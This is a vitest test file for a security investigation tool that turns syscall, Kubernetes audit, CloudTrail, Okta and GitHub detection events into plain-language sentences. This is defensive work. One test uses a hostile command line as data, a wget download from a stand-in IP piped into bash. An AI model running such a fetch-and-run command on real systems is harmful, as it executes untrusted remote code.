import { describe, expect, it } from 'vitest';
import { actionOf, deedOf } from '../../../src/extension/core/investigate/chain/action.ts';
import { words } from './read.ts';
import { call, event, proc } from './scenario.ts';

const bash = proc('bash', 'bash -c id', 'java', 50, 40);
const syscall = (fields: Record<string, string>, more: Partial<Parameters<typeof event>[0]> = {}) =>
  event({ id: 'a', ago: 1, rule: 'A rule', scope: { host: 'vm-12' }, fields: { ...bash, ...fields }, ...more });
const audit = (fields: Record<string, string>) =>
  event({
    id: 'a',
    ago: 1,
    rule: 'A rule',
    source: 'k8s_audit',
    scope: { cluster: 'c' },
    fields: { 'ka.user.name': 'dana@acme.example', ...fields },
  });

const okta = (fields: Record<string, string>) => {
  const by = { 'okta.actor.alternateId': 'kim@acme.example', 'okta.client.ipAddress': '203.0.113.7' };
  return event({ id: 'a', ago: 1, rule: 'A rule', source: 'okta', scope: {}, fields: { ...by, ...fields } });
};
const gitHub = (fields: Record<string, string>) => {
  const by = { 'github.actor': 'kim', 'github.repo': 'https://github.com/Acme/web' };
  return event({ id: 'a', ago: 1, rule: 'A rule', source: 'github', scope: {}, fields: { ...by, ...fields } });
};

describe('the action of a step says what its event is about', () => {
  it.each([
    ['a start', syscall({ 'evt.type': 'execve' }), 'java started bash -c id'],
    ['a start, where there is no type', syscall({}), 'java started bash -c id'],
    ['a start from memory', syscall({ 'evt.type': 'execve', 'proc.exepath': '/dev/shm/x' }), 'java started bash -c id from /dev/shm/x'],
    [
      'a start whose command names the path already',
      syscall({ 'proc.cmdline': '/tmp/update.bin', 'proc.exepath': '/tmp/update.bin' }),
      'java started /tmp/update.bin',
    ],
    [
      'a file opened to write',
      syscall({ 'evt.type': 'openat', 'fd.name': '/a/b', 'evt.arg.flags': 'O_TRUNC|O_WRONLY' }),
      'bash wrote /a/b',
    ],
    [
      'a file written by the rule',
      syscall({ 'evt.type': 'openat', 'fd.name': '/a/b' }, { rule: 'Systemd Unit Created' }),
      'bash wrote /a/b',
    ],
    ['a file read by the rule', syscall({ 'evt.type': 'open', 'fd.name': '/a/b' }, { rule: 'Read sensitive file' }), 'bash read /a/b'],
    ['a file read by the rule, where there is no type', syscall({ 'fd.name': '/a/b' }, { rule: 'Credentials read' }), 'bash read /a/b'],
    ['a start that names a file, where there is no type', syscall({ 'fd.name': '/a/b' }), 'java started bash -c id'],
    [
      'a login',
      syscall({ 'proc.name': 'sshd', 'proc.cmdline': 'sshd: kim', 'proc.pname': 'sshd', 'fd.rip': '203.0.113.7' }),
      'sshd started sshd: kim, taking a connection from 203.0.113.7',
    ],
    ['a file opened, no more is said', syscall({ 'evt.type': 'open', 'fd.name': '/a/b' }), 'bash opened /a/b'],
    ['a file deleted', syscall({ 'evt.type': 'unlinkat', 'fd.name': '/a/b' }), 'bash deleted /a/b'],
    [
      'a connection',
      syscall({ 'evt.type': 'connect', 'fd.rip': '203.0.113.7', 'fd.rport': '3333' }),
      'bash connected to 203.0.113.7 port 3333',
    ],
    ['a connection taken', syscall({ 'evt.type': 'accept', 'fd.rip': '203.0.113.7' }), 'bash took a connection from 203.0.113.7'],
    ['the metadata service', syscall({ 'evt.type': 'connect', 'fd.rip': '169.254.169.254' }), 'bash asked the instance metadata service'],
    ['a change of namespaces', syscall({ 'evt.type': 'setns' }), 'bash changed its namespaces'],
    [
      'an escape, where the rule calls it one',
      syscall({ 'evt.type': 'setns' }, { tags: ['MITRE_T1611_escape_to_host'] }),
      'bash escaped from its container to the host',
    ],
    ['a call of another type', syscall({ 'evt.type': 'prctl' }), 'bash raised A rule'],
    [
      'a shell in a pod',
      audit({
        'ka.target.subresource': 'exec',
        'ka.target.namespace': 'shop',
        'ka.target.name': 'web-0',
        'ka.uri.param[command]': '/bin/sh',
      }),
      'dana@acme.example opened a shell in pod shop/web-0',
    ],
    [
      'a command in a pod',
      audit({ 'ka.target.subresource': 'exec', 'ka.target.namespace': 'shop', 'ka.target.name': 'web-0', 'ka.uri.param[command]': 'env' }),
      'dana@acme.example ran env in pod shop/web-0',
    ],
    ['a request', audit({ 'ka.verb': 'list', 'ka.target.resource': 'secrets' }), 'dana@acme.example listed secrets'],
    [
      'a cloud call',
      event({
        id: 'a',
        ago: 1,
        rule: 'R',
        scope: {},
        fields: call('StopLogging', 'cloudtrail', { 'ct.user': 'eve', 'ct.request.name': 'org' }),
      }),
      'eve called StopLogging on org from 198.51.100.23',
    ],
    ['a sign-in', okta({ 'okta.evt.type': 'user.session.start', 'okta.result': 'SUCCESS' }), 'kim@acme.example signed in from 203.0.113.7'],
    [
      'a second factor that failed',
      okta({ 'okta.evt.type': 'user.authentication.auth_via_mfa', 'okta.result': 'FAILURE' }),
      'kim@acme.example failed a second factor from 203.0.113.7',
    ],
    [
      'a second factor of somebody else',
      okta({ 'okta.evt.type': 'user.mfa.factor.deactivate', 'okta.target.user.alternateid': 'lou@acme.example' }),
      'kim@acme.example removed a second factor of lou@acme.example from 203.0.113.7',
    ],
    ['another deed at the identity provider', okta({ 'okta.evt.type': 'zone.update' }), 'kim@acme.example raised A rule from 203.0.113.7'],
    ['a push', gitHub({ 'github.ref': 'refs/heads/main' }), 'kim pushed to refs/heads/main in Acme/web'],
    [
      'a changed workflow',
      gitHub({ 'github.type': 'push', 'github.workflow.filename': '.github/workflows/ci.yml' }),
      'kim changed the workflow .github/workflows/ci.yml in Acme/web',
    ],
    ['a published package', gitHub({ 'github.package': 'ghcr.io/acme/web:1' }), 'kim published ghcr.io/acme/web:1'],
    ['another deed at the code host', gitHub({ 'github.action': 'publicized' }), 'kim raised A rule in Acme/web'],
  ])('[K-03] %s', (_name, one, expected) => {
    expect(words(actionOf(one))).toBe(expected);
  });

  it('[I-27] a start that the agent prevented is not told as a start', () => {
    const one = syscall({ 'evt.type': 'execve' });
    const raw = { actions: [{ type: 'malware_prevented', isSuccessful: true }] };
    expect(words(actionOf({ ...one, raw }))).toBe('java tried in vain to start bash -c id');
    expect(words(actionOf({ ...one, raw: { actions: [{ type: 'malware_prevented', isSuccessful: false }] } }))).toBe(
      'java started bash -c id',
    );
  });

  it('[K-02] a summary names a long command by its program and the argument that tells most', () => {
    const long = 'bash -c set -e; wget -q -O - --no-check-certificate http://198.51.100.23/i.sh | bash';
    const { did } = deedOf(syscall({ 'proc.cmdline': long }), 'short');
    expect(words(did)).toBe('started bash (http://198.51.100.23/i.sh)');
  });
});
